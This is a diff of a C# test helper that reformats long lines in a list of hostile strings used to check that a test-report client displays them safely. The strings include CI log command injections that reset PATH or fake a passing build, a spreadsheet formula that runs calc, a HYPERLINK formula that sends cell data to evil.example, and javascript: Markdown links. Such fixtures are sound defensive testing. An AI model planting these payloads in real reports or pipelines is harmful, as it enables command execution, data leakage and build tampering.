@@ -7,7 +7,9 @@ using Xunit;
 
 namespace Crashtest.Client.Tests;
 
-/// <summary>Text that attacks whoever shows it: a report may hold each of these, as title, as message or as scanner.</summary>
+/// <summary>
+/// Text that attacks whoever shows it: a report may hold each of these, as title, as message or as scanner.
+/// </summary>
 internal static class HostileText
 {
     private const int Megabyte = 1024 * 1024;
@@ -19,7 +21,8 @@ internal static class HostileText
         ["blanks"] = " \t ",
         ["quotes and commas"] = "a,\"b\";c'd\\e",
         ["GitHub command"] = "::error file=a.js,line=1::pwned\n::add-mask::x\n  ::set-env name=PATH::/evil",
-        ["Azure command"] = "x ##vso[task.setvariable variable=PATH]/evil ###vso[task.complete result=Succeeded] ##[error]y",
+        ["Azure command"] =
+            "x ##vso[task.setvariable variable=PATH]/evil ###vso[task.complete result=Succeeded] ##[error]y",
         ["TeamCity command"] = "##teamcity[buildStatus status='SUCCESS']",
         ["formula ="] = "=cmd|'/c calc'!A0",
         ["formula link"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")",
@@ -58,7 +61,8 @@ internal static class HostileText
         ["lone surrogates"] = "a\uD800b\uDC00c\uDC00\uD800",
         ["characters that are none"] = "a\uFFFEb\uFFFFc\uFDD0\U0001FFFE",
         ["line breaks"] = "a\u2028b\u2029c\u0085d\r\ne\vf\fg\rh",
-        ["Markdown link"] = "[x](javascript:alert(1)) ![i](http://evil.example/i.png) <http://evil.example> [y][1]\n\n[1]: http://evil.example",
+        ["Markdown link"] = "[x](javascript:alert(1)) ![i](http://evil.example/i.png) <http://evil.example> "
+            + "[y][1]\n\n[1]: http://evil.example",
         ["bare address"] = "see http://evil.example/a?b=c&d or www.evil.example or mail@evil.example",
         ["mention"] = "@octocat @all #1 !1 GH-1 ~label :bomb: octo/repo#1",
         ["SARIF link"] = "[a](1) \\[b](http://evil.example) [[c]](2)",
@@ -75,14 +79,15 @@ internal static class HostileText
     };
 
     /// <summary>Gets a text as the reader of a report keeps it: no longer than it reads.</summary>
-    public static string AsRead(string text) => text.Length > LongText.MaximumLength ? text[..LongText.MaximumLength] : text;
+    public static string AsRead(string text) =>
+        text.Length > LongText.MaximumLength ? text[..LongText.MaximumLength] : text;
 
     /// <summary>The names, for a theory.</summary>
     public static TheoryData<string> Names => [.. All.Keys];
 
     /// <summary>
-    /// A JUnit report that holds each text as the title of a check, the message of its finding and the message of a check
-    /// that crashed. One text alone where a name is given.
+    /// A JUnit report that holds each text as the title of a check, the message of its finding and the message of a
+    /// check that crashed. One text alone where a name is given.
     /// </summary>
     public static string Report(string? name = null)
     {
@@ -90,8 +95,13 @@ internal static class HostileText
         foreach (string text in name is null ? All.Values : [All[name]])
         {
             string attribute = InXml(text);
-            xml.Append(CultureInfo.InvariantCulture, $"<testcase classname=\"xss.crashtest.cloud\" name=\"{attribute}\"><failure type=\"high\" message=\"{attribute}\"/></testcase>");
-            xml.Append(CultureInfo.InvariantCulture, $"<testcase classname=\"{(text.Length > 1000 ? "long" : attribute)}\" name=\"crash\"><error message=\"{attribute}\"/></testcase>");
+            xml.Append(
+                CultureInfo.InvariantCulture, $"<testcase classname=\"xss.crashtest.cloud\" name=\"{attribute}\">");
+            xml.Append(CultureInfo.InvariantCulture, $"<failure type=\"high\" message=\"{attribute}\"/></testcase>");
+            xml.Append(
+                CultureInfo.InvariantCulture,
+                $"<testcase classname=\"{(text.Length > 1000 ? "long" : attribute)}\" name=\"crash\"><error "
+                    + $"message=\"{attribute}\"/></testcase>");
         }
 
         return xml.Append("</testsuite></testsuites>").ToString();
